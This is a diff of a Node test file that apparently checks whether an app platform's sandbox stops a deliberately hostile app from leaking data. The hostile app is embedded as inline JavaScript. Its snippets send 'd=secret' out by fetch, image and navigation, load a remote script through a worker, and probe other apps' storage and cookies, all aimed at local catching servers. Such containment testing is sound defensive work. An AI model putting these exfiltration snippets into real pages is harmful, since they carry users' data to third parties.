@@ -1,6 +1,7 @@
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
+import { generateKeyPairSync, randomUUID, sign } from 'node:crypto';
 import { once } from 'node:events';
 import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
@@ -11,28 +12,53 @@ import { setTimeout as wait } from 'node:timers/promises';
 import { chromium } from 'playwright-core';
 import { catchAll, domain } from './catch.js';
 import { table } from './exfil_table.js';
-import { channels, granted, near } from './exfil_channels.js';
+import { beside, channels, granted, kit, kitApp, near } from './exfil_channels.js';
 
-// A hostile app of its own page tries every way out that a browser has, in a product page
-// that sends no policy at all. What it reaches is counted by servers that catch it.
+// A hostile app of its own page tries every way out that a browser has, and a hostile app of
+// UI Kit every prop that can hold an address or CSS: in the element that products have, in a
+// product's page that sends no policy at all. What they reach is counted by servers that catch it.
 
 const annex = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'bin', 'annex');
 const hostile = `
-const { channel, to, udp, at } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
 const channels = {${Object.entries(channels).map(([name, f]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
 const near = {${Object.entries(near).map(([name, f]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
-addEventListener('load', async () => {
+const believed = {${Object.entries(kit).map(([name, { believed: f }]) => `${JSON.stringify(name)}: ${f}`).join(',\n')}};
+
+// The page of another app, beside that of the attacker: it tells what comes to it.
+function listen(to) {
+  const name = new URL(to).hostname.replaceAll('.', '-');
+  addEventListener('message', (e) => { if (e.data?.secret === to) console.log('HEARD'); });
+  const channel = new BroadcastChannel(to);
+  channel.onmessage = () => console.log('HEARD');
+  const look = async () => {
+    if (localStorage.getItem(name) || document.cookie.includes(name) || (await indexedDB.databases()).some((d) => d.name === name) || (await caches.keys()).includes(name)) console.log('HEARD');
+  };
+  setInterval(() => { look().catch(() => {}); }, 150);
+  console.log('LISTENS');
+}
+
+// What it is to try is said where it stands: by the address, or by what the product's back end signed.
+const loaded = new Promise((done) => addEventListener('load', done));
+const orders = location.hash ? JSON.parse(decodeURIComponent(location.hash.slice(1))) : (await __bridge.callBridge('getContext')).extension.attack;
+const { channel, to, udp, at } = orders ?? {};
+if (channel === 'listen') listen(to);
+else if (channel) attack();
+async function attack() {
+  await loaded;
   let said = '';
   console.log('TRYING ' + channel);
-  try { said = await Promise.race([near[channel] ? near[channel](at) : channels[channel](to, udp), new Promise((done) => setTimeout(done, 2000))]); } catch (e) { said = String(e); }
+  try { said = await Promise.race([near[channel] ? near[channel](at) : (channels[channel] ?? believed[channel])(to, udp), new Promise((done) => setTimeout(done, 2000))]); } catch (e) { said = String(e); }
   console.log('TRIED ' + channel + ' ' + said);
-});
+}
 `;
-const index = '<!doctype html><html><head><meta charset=utf-8><title>hostile</title></head><body><p>app</p><script src="./app.js"></script></body></html>';
+const index = '<!doctype html><html><head><meta charset=utf-8><title>hostile</title></head><body><p>app</p><script type="module" src="./app.js"></script></body></html>';
 const files = {
   'index.html': index, 'app.js': hostile,
   'worker.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to, {mode: 'no-cors'}); new WebSocket(to.replace('https:', 'wss:')); importScripts(to + '/w.js');`,
   'service.js': `fetch(new URL(location).searchParams.get('to'), {mode: 'no-cors'});`,
+  'second.html': '<!doctype html><meta charset=utf-8><title>second</title><p>second<script src="./second.js"></script>',
+  'second.js': `const to = decodeURIComponent(location.hash.slice(1)); fetch(to + '/?d=secret', {mode: 'no-cors'}).catch(() => {}); new Image().src = to + '/s.png'; location.href = to + '/?d=secret';`,
+  'dot.svg': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><circle cx="4" cy="4" r="4"/></svg>',
 };
 
 // Pages that tear their frames down make the browser's driver fall over events that come for
@@ -42,24 +68,41 @@ process.emit = function (what, e, ...rest) {
   return what === 'unhandledRejection' && e?.message === 'Frame has been detached.' ? true : emit.call(this, what, e, ...rest);
 };
 
-let dir, server, catching, browser, products, forge, run, origins, url, version;
+let dir, server, catching, browser, products, forge, run, origins, url, ui, site, hook, version;
+
+// What the product's back end says of a place in its pages, signed.
+const key = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+const kid = 'exfil';
+function panel(module, attack) {
+  const part = (v) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
+  const now = Math.floor(Date.now() / 1000);
+  const said = `${part({ alg: 'ES256', kid, typ: 'annex-panel+jwt' })}.${part({
+    iss: 'page', aud: ui, sub: 'alice', site, name: 'Alice', locale: 'en-GB', timezone: 'UTC', admin: false, auth_time: now, iat: now, exp: now + 60, jti: randomUUID(), module, extension: { attack },
+  })}`;
+  return `${said}.${sign('sha256', Buffer.from(said), { key: key.privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`;
+}
 before(async () => {
   dir = mkdtempSync(join(tmpdir(), 'annex-exfil-'));
   catching = await catchAll();
 
-  // The product: pages without a policy, and a shell page with the one policy that holds an
-  // app's frame where it is.
+  // The product: pages without a policy, with the platform's elements in them; and for the
+  // comparisons plain frames, of which the page around them is as open.
   products = createServer((req, res) => {
     const u = new URL(req.url, 'http://x');
     res.setHeader('content-type', 'text/html');
     if (u.pathname === '/shell') {
       const at = new URL(u.searchParams.get('app'));
-      if (!u.searchParams.has('open')) res.setHeader('content-security-policy', `default-src 'none'; frame-src ${at.origin}`);
       const sandbox = u.searchParams.get('open') === 'baseline' ? 'sandbox="allow-downloads allow-forms allow-modals allow-pointer-lock allow-same-origin allow-scripts allow-popups allow-popups-to-escape-sandbox"' : '';
       res.end(`<!doctype html><iframe ${sandbox} src="${at.href.replaceAll('"', '&quot;')}"></iframe>`);
       return;
     }
-    res.end(`<!doctype html><title>product</title><iframe src="/shell${u.search.replaceAll('"', '&quot;')}"></iframe>`);
+    if (u.searchParams.has('panel')) {
+      const panels = JSON.parse(u.searchParams.get('panel')).map(([module, attack]) => `<annex-panel token="${panel(module, attack)}" min-height="200"></annex-panel>`);
+      res.end(`<!doctype html><title>product</title><script src="${ui}/host.js"></script>${panels.join('')}`);
+      return;
+    }
+    const frames = u.searchParams.getAll('app').map((app) => `<iframe src="/shell?open=${u.searchParams.get('open')}&amp;app=${encodeURIComponent(app)}"></iframe>`);
+    res.end(`<!doctype html><title>product</title>${frames.join('')}`);
   });
   products.listen(0, '127.0.0.1');
   await once(products, 'listening');
@@ -74,6 +117,7 @@ before(async () => {
     await wait(100);
   }
   url = /serves on (\S+)/.exec(said)[1];
+  ui = `http://annex.localhost:${new URL(url).port}`;
   run = async (as, cwd, ...args) => {
     const p = spawn(annex, [...args, '--json'], { cwd, env: { ...process.env, HOME: dir, ANNEX_URL: url, ANNEX_TOKEN: as } });
     let out = '';
@@ -83,38 +127,47 @@ before(async () => {
     return JSON.parse(out);
   };
   const operator = readFileSync(token, 'utf8').trim();
-  writeFileSync(join(dir, 'product.yaml'), `key: page\nname: Page\napiBaseUrl: http://127.0.0.1:${productPort}\npageOrigins: ["http://product.localhost:${productPort}"]\nmodules: [{type: "page:panel"}]\n`);
+  writeFileSync(join(dir, 'product.yaml'), `key: page\nname: Page\napiBaseUrl: http://127.0.0.1:${productPort}\npageOrigins: ["http://product.localhost:${productPort}"]\n`
+    + `keys: [${JSON.stringify({ ...key.publicKey.export({ format: 'jwk' }), kid, alg: 'ES256', use: 'sig' })}]\n`
+    + `modules: [{type: "page:nothing"}, {type: "page:granted"}, {type: "page:kitnothing"}, {type: "page:kitgranted"}]\n`);
   await run(operator, dir, 'product', 'add', 'product.yaml');
-  await run(operator, dir, 'site', 'add', 'site', '--product', 'page', '--development-apps');
+  ({ id: site } = await run(operator, dir, 'site', 'add', 'site', '--product', 'page', '--development-apps'));
   const people = await run(operator, dir, 'account', 'add', 'alice', '--developer', '--admin-of', 'site');
   const tokens = Object.fromEntries((people.tokens ?? []).map((t) => [t.kind, t.secret ?? t.token]));
 
-  // One app that is granted nothing, one that is granted requests and images.
+  // Apps that are granted nothing, and apps that are granted requests and images; of pages of
+  // their own, and of UI Kit.
   origins = {};
+  const where = ['--environment', 'development', '--site', 'site', '--product', 'page'];
   for (const [name, external] of Object.entries({
     nothing: '{}',
     granted: `{fetch: {client: ["https://*.granted.${domain}:${catching.port}", "wss://*.granted.${domain}:${catching.port}"]}, images: ["https://*.granted.${domain}:${catching.port}"]}`,
   })) {
-    const app = join(dir, name);
-    mkdirSync(join(app, 'static'), { recursive: true });
-    writeFileSync(join(app, 'manifest.yml'), `app: {id: "", name: hostile ${name}, runtime: {name: nodejs22.x}}
-permissions: {scopes: [], external: ${external}}
-modules:
-  "page:panel": [{key: panel, title: Panel, resource: main}]
-resources: [{key: main, path: static}]
-`);
-    for (const [file, text] of Object.entries(files)) writeFileSync(join(app, 'static', file), text);
-    await run(tokens.developer, app, 'deploy', '--environment', 'development');
-    const where = ['--environment', 'development', '--site', 'site', '--product', 'page'];
-    await run(tokens.admin, app, 'install', '--confirm', ...where);
-    const pages = await run(tokens.admin, app, 'explain', 'csp', ...where);
-    origins[name] = pages.documents.main;
+    const put = async (folder, manifest, sources) => {
+      const app = join(dir, folder);
+      for (const [file, text] of Object.entries({ 'manifest.yml': `app: {id: "", name: hostile ${folder}, runtime: {name: nodejs22.x}}\npermissions: {scopes: [], external: ${external}}\n${manifest}`, ...sources })) {
+        mkdirSync(dirname(join(app, file)), { recursive: true });
+        writeFileSync(join(app, file), text);
+      }
+      await run(tokens.developer, app, 'deploy', '--environment', 'development');
+      await run(tokens.admin, app, 'install', '--confirm', ...where);
+      return app;
+    };
+    // Whoever is granted something has a web trigger too: to its own hook leads no more way than to another's.
+    const hooked = name === 'granted';
+    const app = await put(name, `modules:
+  "page:${name}": [{key: panel, title: Panel, resource: main}]
+${hooked ? '  webtrigger: [{key: hook, function: hook, response: {type: dynamic}}]\n  function: [{key: hook, handler: index.hook}]\n' : ''}resources: [{key: main, path: static}]
+`, { ...Object.fromEntries(Object.entries(files).map(([file, text]) => [`static/${file}`, text])), ...(hooked && { 'src/index.js': "export const hook = () => ({ statusCode: 200, body: 'caught' });\n" }) });
+    origins[name] = (await run(tokens.admin, app, 'explain', 'csp', ...where)).documents.main;
+    if (hooked) hook = (await run(tokens.developer, app, 'webtrigger', 'create', '--function', 'hook', ...where)).url;
+    await put(`kit-${name}`, `modules:\n  "page:kit${name}": [{key: panel, title: Kit, resource: main, render: native}]\nresources: [{key: main, path: src/main.jsx}]\n`, { 'src/main.jsx': kitApp });
   }
 
   // Forge's published shape of the same thing (facts 2.4 and 2.5), for comparison.
   forge = createServer((req, res) => {
     const name = new URL(req.url, 'http://x').pathname.slice(1) || 'index.html';
-    res.setHeader('content-type', name.endsWith('.js') ? 'text/javascript' : 'text/html');
+    res.setHeader('content-type', name.endsWith('.js') ? 'text/javascript' : name.endsWith('.svg') ? 'image/svg+xml' : 'text/html');
     if (!req.headers.host.startsWith('open.')) res.setHeader('content-security-policy', `default-src 'self'; frame-ancestors 'self' http://product.localhost:${productPort}; frame-src 'self'; font-src 'self'; img-src 'self' data: blob:; media-src 'self' data: blob:; ` +
       `connect-src 'self'; script-src 'self'; style-src 'self'; form-action 'self'; sandbox allow-popups allow-popups-to-escape-sandbox allow-downloads allow-forms allow-modals allow-pointer-lock allow-same-origin allow-scripts`);
     res.end(files[name] ?? '');
@@ -123,6 +176,7 @@ resources: [{key: main, path: static}]
   await once(forge, 'listening');
   origins.open = `http://open.apps.localhost:${forge.address().port}/index.html`;
   origins.baseline = `http://forge.apps.localhost:${forge.address().port}/index.html`;
+  origins.neighbour = { baseline: `http://neighbour.apps.localhost:${forge.address().port}/index.html`, open: `http://open.neighbour.apps.localhost:${forge.address().port}/index.html` };
 
   // A profile as people have one: in a private one the browser opens nothing ahead.
   browser = await chromium.launchPersistentContext(join(dir, 'profile'), {
@@ -145,7 +199,7 @@ after(async () => {
 });
 
 // EXFIL_ONLY and EXFIL_MODES pick some, for one who works on them.
-const names = [...Object.keys(channels), ...Object.keys(near)].filter((c) => !process.env.EXFIL_ONLY || new RegExp(process.env.EXFIL_ONLY).test(c));
+const names = [...Object.keys(channels), ...Object.keys(near), ...Object.keys(kit)].filter((c) => !process.env.EXFIL_ONLY || new RegExp(process.env.EXFIL_ONLY).test(c));
 const modes = (process.env.EXFIL_MODES ?? 'nothing,baseline,granted,open').split(',');
 const slug = (channel) => channel.toLowerCase().replace(/[^a-z]+/g, '-').replace(/^-|-$/g, '');
 
@@ -161,19 +215,31 @@ async function attempt(mode) {
     const udp = await catching.udp(host);
     const page = await browser.newPage();
     page.on('popup', (p) => page.once('close', () => p.close().catch(() => {})));
-    let began;
+    let began, ready;
     const trying = new Promise((resolve) => (began = resolve));
+    const listening = new Promise((resolve) => (ready = resolve));
     const done = new Promise((resolve) => page.on('console', (m) => {
       if (m.text().startsWith('TRYING ')) began(true);
       if (m.text().startsWith('TRIED ')) resolve(m.text());
+      if (m.text() === 'LISTENS') ready(true);
+      if (m.text() === 'HEARD') catching.note(host, 'heard');
     }));
-    const { port } = new URL(url);
-    const at = { sibling: origins[mode === 'granted' ? 'nothing' : 'granted'], hook: `http://0123456789abcdef0123456789abcdef.hooks.localhost:${port}`, ui: `http://annex.localhost:${port}`, control: url };
+    const at = { sibling: origins[mode === 'granted' ? 'nothing' : 'granted'], hook: hook.replace(/\/$/, ''), ui, control: url };
     // A response, whatever it says, means that the request arrived.
-    page.on('response', (r) => { if (near[channel] && Object.values(at).some((there) => r.url().startsWith(there))) catching.note(host, 'response'); });
-    const attack = encodeURIComponent(JSON.stringify({ channel, to: `https://${host}:${catching.port}`, udp, at }));
-    const app = origins[mode] + '#' + attack;
-    const opened = await page.goto(`http://product.localhost:${products.address().port}/?${mode === 'baseline' || mode === 'open' ? `open=${mode}&` : ''}app=${encodeURIComponent(app)}`).catch(() => null);
+    page.on('response', (r) => { if (near[channel] && r.url().includes('d=secret') && Object.values(at).some((there) => r.url().startsWith(there))) catching.note(host, 'response'); });
+    const attack = { channel, to: `https://${host}:${catching.port}`, udp, at };
+    const other = mode === 'granted' ? 'nothing' : 'granted';
+    const product = `http://product.localhost:${products.address().port}/`;
+    const addressed = (document, said) => encodeURIComponent(`${document}#${encodeURIComponent(JSON.stringify(said))}`);
+    let opened;
+    if (mode === 'baseline' || mode === 'open') {
+      opened = await page.goto(`${product}?open=${mode}&app=${addressed(origins[mode], attack)}${beside.has(channel) ? `&app=${addressed(origins.neighbour[mode], { channel: 'listen', to: attack.to })}` : ''}`).catch(() => null);
+    } else {
+      const panels = [[`page:${kit[channel] ? 'kit' : ''}${mode}`, attack], ...(beside.has(channel) ? [[`page:${other}`, { channel: 'listen', to: attack.to }]] : [])];
+      opened = await page.goto(`${product}?panel=${encodeURIComponent(JSON.stringify(panels))}`).catch(() => null);
+      if (opened && kit[channel]) void follow(page, began).catch(() => {});
+    }
+    if (opened && beside.has(channel)) await Promise.race([listening, wait(10000)]);
     if (!(opened && (await Promise.race([trying, wait(20000, false)])))) {
       await page.close();
       if (again) return one(channel, again - 1); // the browser gave up, not the app
@@ -191,6 +257,23 @@ async function attempt(mode) {
   return { out, tried };
 }
 
+// follow clicks whatever can be clicked in what UI Kit drew, in every way.
+async function follow(page, began) {
+  for (let n = 0; n < 300; n++) {
+    for (const f of page.frames()) {
+      // Elements that are no component end what an app draws.
+      if (!f.url().includes('/shell/app/') || !(await f.getByText(/^(DREW .*|The app could not show this\.)$/).count().catch(() => 0))) continue;
+      began(true);
+      await wait(700); // the tree after that one
+      await f.evaluate(() => {
+        for (const a of document.querySelectorAll('#app a, #app button')) for (const init of [{}, { ctrlKey: true }, { button: 1 }]) a.dispatchEvent(new MouseEvent(init.button ? 'auxclick' : 'click', { bubbles: true, cancelable: true, ...init }));
+      });
+      return;
+    }
+    await wait(100);
+  }
+}
+
 // arrived leaves out what says no more than the name of a host: where a host is granted,
 // browsers look it up and shake hands ahead of requests that they then do not make.
 const arrived = (caught) => caught.filter((what) => what !== 'dns' && what !== 'tls');
@@ -201,14 +284,16 @@ const expected = {
     assert.deepEqual(names.filter((c) => out[c].length).map((c) => `${c}: ${out[c].join(', ')}`), [], 'left where nothing is granted');
     assert.deepEqual(names.filter((c) => tried[c] === silent), [], 'these were not tried');
   },
-  granted(out) {
+  granted(out, tried) {
+    assert.deepEqual(names.filter((c) => tried[c] === silent), [], 'these were not tried');
     assert.deepEqual(names.filter((c) => arrived(out[c]).length && !granted.has(c)), [], 'left by a way that is not granted');
-    const must = ['fetch', 'XMLHttpRequest', 'beacon', 'image', 'CSS image', 'WebSocket', 'worker'];
+    const must = ['fetch', 'XMLHttpRequest', 'beacon', 'image', 'CSS image', 'WebSocket', 'worker', 'self-navigation to its own origin', 'UI Kit: Image', 'UI Kit: AdfRenderer'];
     assert.deepEqual(names.filter((c) => must.includes(c) && !arrived(out[c]).length), [], 'granted, and stopped');
   },
   // A page without any policy: a way that is not open there either says nothing.
   open(out) {
-    const must = ['fetch', 'image', 'CSS import', 'font', 'script', 'self-navigation', 'popup', 'frame', 'worker', 'WebRTC', 'form post', 'dns-prefetch', 'preconnect', 'prefetch', 'download', 'SVG use'];
+    const must = ['fetch', 'image', 'CSS import', 'font', 'script', 'self-navigation', 'popup', 'frame', 'worker', 'WebRTC', 'form post', 'dns-prefetch', 'preconnect', 'prefetch', 'download', 'SVG use',
+      'self-navigation to its own origin', 'postMessage to siblings', 'timing of other installations', 'self-navigation to a web trigger', ...Object.keys(kit)];
     assert.deepEqual(names.filter((c) => must.includes(c) && !out[c].length), [], 'not open where there is no policy');
   },
   // Otherwise an empty table says nothing.
